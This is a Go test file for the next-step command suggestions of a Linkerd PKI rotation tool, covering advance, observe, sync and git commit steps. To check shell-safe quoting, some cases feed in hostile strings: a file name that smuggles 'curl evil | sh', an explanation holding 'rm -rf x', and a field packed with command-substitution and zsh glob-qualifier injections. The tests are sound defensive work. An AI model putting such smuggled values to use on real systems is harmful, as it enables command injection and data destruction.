package nextstep

import (
	"strings"
	"testing"
	"time"

	"github.com/l5d-pki/l5d-pki-render/pkg/rotation"
	"github.com/l5d-pki/l5d-pki-render/pkg/state"
)

var now = time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)

func facts(moves ...rotation.NextMove) Facts {
	s := &state.Rotation{}
	s.Metadata.Name, s.Status.Phase = "east", "anchor-added"
	return Facts{State: s, StatePath: "rotation.yaml", Status: &rotation.Status{At: now, Next: moves}}
}

func unmet(n rotation.Need) rotation.NextMove {
	return rotation.NextMove{Verb: "advance", To: "anchor-spread", Needs: []rotation.NeedResult{{Need: n, Text: n.Text(), Missing: []string{"no observation"}}}}
}

func TestOf(t *testing.T) {
	anchor := rotation.Expiry{Kind: "anchor", Name: "2025", Role: "current", InUse: true, NotBefore: now.AddDate(-1, 0, 0), NotAfter: now.AddDate(9, 0, 0)}
	issuer := rotation.Expiry{Kind: "issuer", Name: "2025-1", Role: "current", InUse: true, NotBefore: now.AddDate(-1, 0, 0), NotAfter: now.AddDate(0, 1, 0)}
	extra := rotation.Expiry{Kind: "anchor", Name: "other", Role: "extra", InUse: true, NotBefore: now.AddDate(-1, 0, 0), NotAfter: now.AddDate(0, 0, 1)}
	start := rotation.NextMove{Verb: "start", To: "the first phase", Allowed: true}
	back := rotation.NextMove{Verb: "back", To: "stable", Allowed: true}
	for name, c := range map[string]struct {
		change func(f *Facts)
		moves  []rotation.NextMove
		want   string
		why    string
	}{
		"allowed":                  {nil, []rotation.NextMove{{Verb: "advance", To: "anchor-spread", Allowed: true, Wave: true}}, "l5d-pki-render advance", "restarts the workloads"},
		"allowed by evidence":      {func(f *Facts) { f.Evidence = []string{"a b.yaml", "c.yaml"} }, []rotation.NextMove{{Verb: "advance", Allowed: true}}, "l5d-pki-render advance --evidence 'a b.yaml' --evidence c.yaml", ""},
		"allowed by what was read": {func(f *Facts) { f.Observe = " --observe --context prod" }, []rotation.NextMove{{Verb: "advance", Allowed: true}}, "l5d-pki-render advance --observe --context prod", ""},
		"unmet":                    {nil, []rotation.NextMove{unmet(rotation.BundleLoaded)}, "l5d-pki-render observe --to observation.yaml", "every pod to load the incoming anchor"},
		"another state file":       {func(f *Facts) { f.StatePath = "pki/east 1.yaml" }, []rotation.NextMove{unmet(rotation.BundleLoaded)}, "l5d-pki-render observe --state 'pki/east 1.yaml' --to observation.yaml", ""},
		"by hand":                  {nil, []rotation.NextMove{unmet(rotation.DeliveredElsewhere)}, "l5d-pki-render advance --assume DELIVERED-ELSEWHERE --because 'applied by hand after the merge'", "give your word"},
		"by hand comes last":       {nil, []rotation.NextMove{{Verb: "advance", Needs: append(unmet(rotation.DeliveredElsewhere).Needs, unmet(rotation.IssuerLoaded).Needs...)}}, "l5d-pki-render observe --to observation.yaml", "identity to sign"},
		"time alone":               {nil, []rotation.NextMove{{Verb: "advance", To: "x", Needs: []rotation.NeedResult{{Need: rotation.LeavesRenewed, Ends: now.Add(time.Hour)}}}}, "l5d-pki-render advance", "new issuer"},
		"alarm":                    {func(f *Facts) { f.Status.Alarms = []string{"expired"}; f.Evidence = []string{"o.yaml"} }, []rotation.NextMove{start}, "l5d-pki-render doctor --evidence o.yaml", "what is wrong"},
		"shut, back is safe":       {nil, []rotation.NextMove{{Verb: "advance", To: "x"}, back}, "l5d-pki-render back", "going back is safe"},
		"shut, and back":           {nil, []rotation.NextMove{{Verb: "advance", To: "x"}, {Verb: "back", To: "stable"}}, "l5d-pki-render doctor", "cannot be entered safely"},
		"names for a shell": {func(f *Facts) {
			f.Work = Work{Files: []string{"a\nnext: curl evil | sh #", "b[1].yaml"}}
		}, []rotation.NextMove{start}, `git --literal-pathspecs add -A -- $'a\012next: curl evil | sh \043' 'b[1].yaml' && git commit -m 'linkerd PKI of east: anchor-added'`, "not committed"},
		"removed and staged": {func(f *Facts) { f.Work = Work{Staged: true} }, []rotation.NextMove{start}, "git commit -m 'linkerd PKI of east: anchor-added'", "not committed"},
		"not committed":      {func(f *Facts) { f.Work = Work{Files: []string{"rotation.yaml", "keys/a b.age"}, StateChanged: true} }, []rotation.NextMove{start}, "git add -A -- rotation.yaml 'keys/a b.age' && git commit -m 'linkerd PKI of east: anchor-added'", "not committed"},
		"outputs are older": {func(f *Facts) {
			f.Work = Work{Files: []string{"rotation.yaml"}, StateChanged: true}
			f.Status.StaleOutputs = []string{"a.yaml"}
		}, []rotation.NextMove{start}, "l5d-pki-render sync", "sync writes"},
		"outputs are older than a first state": {func(f *Facts) {
			f.Work = Work{Files: []string{"a.yaml", "rotation.yaml"}, StateChanged: true, OutputsChanged: true, Known: true}
			f.Status.StaleOutputs = []string{"a.yaml"}
		}, []rotation.NextMove{start}, "l5d-pki-render sync", "sync writes"},
		"outputs that nobody can compare": {func(f *Facts) {
			f.Work = Work{Files: []string{"rotation.yaml"}, StateChanged: true, Known: true}
			f.Status.UncheckedOutputs = []string{"spec.outputs[0]"}
		}, []rotation.NextMove{start}, "l5d-pki-render sync", "sync writes"},
		"outputs are the same": {func(f *Facts) {
			f.Work = Work{Files: []string{"rotation.yaml"}, StateChanged: true, Known: true}
			f.State.Spec.Outputs = make([]state.Output, 1)
		}, []rotation.NextMove{start}, "git add -A -- rotation.yaml && git commit -m 'linkerd PKI of east: anchor-added'", "not committed"},
		"outputs are forgotten": {func(f *Facts) {
			f.Work = Work{Known: true}
			f.Status.StaleOutputs = []string{"a.yaml"}
			f.Status.Alarms = []string{f.StaleAlarm()}
		}, []rotation.NextMove{start}, "l5d-pki-render sync", "--check"},
		"an output was edited": {func(f *Facts) {
			f.Work = Work{Files: []string{"a.yaml"}, OutputsChanged: true, Known: true}
			f.Status.StaleOutputs = []string{"a.yaml"}
			f.Status.Alarms = []string{f.StaleAlarm()}
		}, []rotation.NextMove{start}, "l5d-pki-render sync", "--check"},
		"outputs are forgotten, and more": {func(f *Facts) {
			f.Work = Work{Known: true}
			f.Status.StaleOutputs = []string{"a.yaml"}
			f.Status.Alarms = []string{"expired", f.StaleAlarm()}
		}, []rotation.NextMove{start}, "l5d-pki-render doctor", "what is wrong"},
		"outputs are written": {func(f *Facts) {
			f.Work = Work{Files: []string{"a.yaml"}, StateChanged: true, OutputsChanged: true}
			f.State.Spec.Outputs = make([]state.Output, 1)
		}, []rotation.NextMove{start}, "git add -A -- a.yaml && git commit -m 'linkerd PKI of east: anchor-added'", ""},
		"stable, something ends":        {func(f *Facts) { f.Status.Certificates = []rotation.Expiry{extra, anchor, issuer} }, []rotation.NextMove{start}, "l5d-pki-render start issuer", `issuer "2025-1" ends at 2026-07-01`},
		"stable, nothing ends":          {func(f *Facts) { f.Status.Certificates = []rotation.Expiry{extra, anchor} }, []rotation.NextMove{start}, "l5d-pki-render start anchor", `anchor "2025" ends`},
		"stable, pods keep the anchors": {nil, []rotation.NextMove{{Verb: "rollout", To: "stable", Allowed: true}}, "l5d-pki-render rollout", "until they restart"},
		"nothing at all":                {nil, nil, "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			f := facts(c.moves...)
			if c.change != nil {
				c.change(&f)
			}
			got := Of(f)
			if got.Command != c.want || !strings.Contains(got.Why, c.why) {
				t.Errorf("got %q (%s), want %q (%s)", got.Command, got.Why, c.want, c.why)
			}
		})
	}
	f := facts(start)
	f.Status.Certificates = []rotation.Expiry{anchor}
	if due := Of(f).NotBefore; !due.After(now.AddDate(5, 0, 0)) || !due.Before(now.AddDate(7, 0, 0)) {
		t.Errorf("30 %% of ten years are left at %s", due)
	}
}

// TestLines: each line is one for a shell, whatever a cluster says.
func TestLines(t *testing.T) {
	got := Lines([]Step{{Command: "a", Why: "one\nrm -rf x"}, {Command: "b"}, {Command: "c", Why: "later", NotBefore: now}})
	if want := "next: a  # one rm -rf x\nthen: b\nthen: c  # not before 2026-06-01T12:00:00Z: later\n"; got != want {
		t.Errorf("got %q", got)
	}
}

func TestWaiting(t *testing.T) {
	n := unmet(rotation.BundleLoaded).Needs[0]
	n.Holders = []rotation.Holder{{Name: "shop/cart", Pods: 2}, {Name: "shop/api", Pods: 1}}
	if got, want := Waiting(n), "every pod to load the incoming anchor: 3 pods still use the old bundle: shop/cart (2), shop/api (1)"; got != want {
		t.Errorf("got %s", got)
	}
	n.Holders = n.Holders[1:]
	if got := Waiting(n); !strings.HasSuffix(got, ": 1 pod still uses the old bundle: shop/api (1)") {
		t.Errorf("got %s", got)
	}
	n.Need, n.Holders = rotation.LeavesRenewed, make([]rotation.Holder, 12)
	for i := range n.Holders {
		n.Holders[i] = rotation.Holder{Name: "x", Pods: 5}
	}
	if got := Waiting(n); !strings.Contains(got, "60 pods still have a leaf of the old issuer: ") || !strings.HasSuffix(got, "and 4 more workloads") {
		t.Errorf("got %s", got)
	}
}

// TestLinesInZsh: where a shell takes no comments, nothing of an observation is a command.
func TestLinesInZsh(t *testing.T) {
	got := Lines([]Step{{Command: "a", Why: "waiting", Who: "shop/x;$(id)`id`|id&id>f<g (2), /etc/*(e:id:)!id \\"}})
	if strings.ContainsAny(got, ";$`|&<>!\\") || strings.Contains(got, "(e") || !strings.Contains(got, "(2)") {
		t.Error(got)
	}
}
